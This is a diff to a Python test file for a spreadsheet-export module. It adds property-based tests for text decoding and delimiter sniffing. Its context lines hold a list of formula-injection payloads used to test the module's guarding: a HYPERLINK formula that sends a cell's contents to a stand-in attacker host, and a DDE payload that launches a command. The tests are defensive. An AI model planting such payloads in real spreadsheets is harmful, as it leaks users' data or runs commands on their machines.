@@ -8,7 +8,15 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from everytouch.spreadsheet import FORMULA_STARTS, safe_cell, unguard, writer
+from everytouch.spreadsheet import (
+    DELIMITERS,
+    FORMULA_STARTS,
+    decode,
+    safe_cell,
+    sniff_delimiter,
+    unguard,
+    writer,
+)
 
 FORMULAS = ['=HYPERLINK("http://evil.example?"&A1,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)"]
 
@@ -35,3 +43,19 @@ def test_it_reads_back_what_it_guarded(text: str) -> None:
     assert not str(guarded).startswith(FORMULA_STARTS) or str(guarded).startswith("+")
     if not text.startswith("'"):
         assert unguard(str(guarded)) == text
+
+
+# --- reading ---------------------------------------------------------------------------------
+
+TEXT = st.text(st.characters(codec="utf-8", exclude_characters="\x00\ufeff"))
+
+
+@given(TEXT)
+def test_it_reads_back_any_utf8_or_utf16_text(text: str) -> None:
+    assert decode(text.encode("utf-8")) == (text, "UTF-8")
+    assert decode(text.encode("utf-16")) == (text, "UTF-16")
+
+
+@given(st.text(st.sampled_from("abcé;,\t\"' ")))
+def test_it_always_picks_one_of_the_delimiters_it_knows(header: str) -> None:
+    assert sniff_delimiter(header, lambda cell: cell in ("name", "phone")) in DELIMITERS
